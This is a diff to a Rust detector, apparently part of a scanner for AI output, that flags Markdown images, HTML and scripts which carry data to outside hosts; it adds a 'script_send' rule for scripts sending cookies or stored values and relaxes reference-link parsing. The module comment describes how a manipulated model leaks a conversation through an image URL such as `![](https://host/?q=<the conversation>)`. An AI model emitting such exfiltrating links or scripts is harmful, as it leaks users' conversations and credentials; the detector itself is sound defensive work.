@@ -3,11 +3,13 @@
 //! A model that was talked into it writes `![](https://host/?q=<the conversation>)`; the client
 //! that renders the answer sends it off. Found are Markdown and HTML that load or link an address
 //! whose query, path or host holds a placeholder, encoded text or sentences. What the address
-//! carries is judged in `payload`, where HTML holds addresses is in `html`. An address in plain
-//! text is not loaded by anybody, and is not judged here.
+//! carries is judged in `payload`, where HTML holds addresses is in `html`, scripts that send what a
+//! browser keeps are in `script`. An address in plain text is not loaded by anybody, and is not judged here.
 
 mod html;
 mod payload;
+mod script;
+mod value;
 
 use std::borrow::Cow;
 use std::sync::Arc;
@@ -27,7 +29,10 @@ const LONGEST: usize = 8192;
 /// Longest label of a Markdown image or link that its span includes.
 const LONGEST_LABEL: usize = 480;
 
-const RULES: [RuleInfo; 5] = [
+/// Most blanks between a reference and its address.
+const MOST_BLANKS: usize = 8;
+
+const RULES: [RuleInfo; 6] = [
     RuleInfo {
         id: "markdown_image",
         description: "Markdown image whose address carries data out when it is shown",
@@ -58,6 +63,12 @@ const RULES: [RuleInfo; 5] = [
         category: "loaded",
         severity: Severity::Medium,
     },
+    RuleInfo {
+        id: "script_send",
+        description: "Script that sends cookies or stored values to another host",
+        category: "loaded",
+        severity: Severity::High,
+    },
 ];
 
 /// A rule; the order is that of [`RULES`].
@@ -68,6 +79,7 @@ enum Kind {
     HtmlLoad,
     HtmlLink,
     ForeignImage,
+    ScriptSend,
 }
 
 /// Places of a text that hold an address.
@@ -116,6 +128,14 @@ impl Detect for Exfiltration {
     fn detect(&self, text: &str, pace: &Pace<'_>, hits: &mut Vec<Hit>) {
         places(text, pace, |kind, span, url| {
             self.judge(kind, span, url, hits);
+        });
+        script::find(text, |span| {
+            hits.push(Hit {
+                rule: Kind::ScriptSend as usize,
+                span,
+                score: 0.85,
+                preview: "script that sends what the browser keeps".to_owned(),
+            });
         });
     }
 
@@ -189,7 +209,7 @@ fn markdown(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &str
 
 /// `[label]: address` on a line of its own; what refers to it may be an image.
 fn references(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &str)) {
-    let middles = memchr::memmem::find_iter(text.as_bytes(), b"]: ");
+    let middles = memchr::memmem::find_iter(text.as_bytes(), b"]:");
     for middle in middles.take_while(|_| pace.step()) {
         let from = text.floor_char_boundary(middle.saturating_sub(LONGEST_LABEL));
         let line = text[from..middle]
@@ -199,10 +219,16 @@ fn references(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &s
         if !label.starts_with('[') || label[1..].contains('[') {
             continue;
         }
-        let rest = &text[middle + 3..];
+        let rest = &text[middle + 2..];
+        let blanks = rest
+            .bytes()
+            .take(MOST_BLANKS)
+            .take_while(|b| matches!(b, b' ' | b'\t'));
+        let begin = middle + 2 + blanks.count();
+        let rest = &text[begin..];
         let length = rest.find(char::is_whitespace).unwrap_or(rest.len());
-        let end = text.floor_char_boundary(middle + 3 + length.min(LONGEST));
-        let url = &text[middle + 3..end];
+        let end = text.floor_char_boundary(begin + length.min(LONGEST));
+        let url = &text[begin..end];
         let span = Span::new(middle - label.len(), end);
         found(Kind::MarkdownImage, span, url);
     }
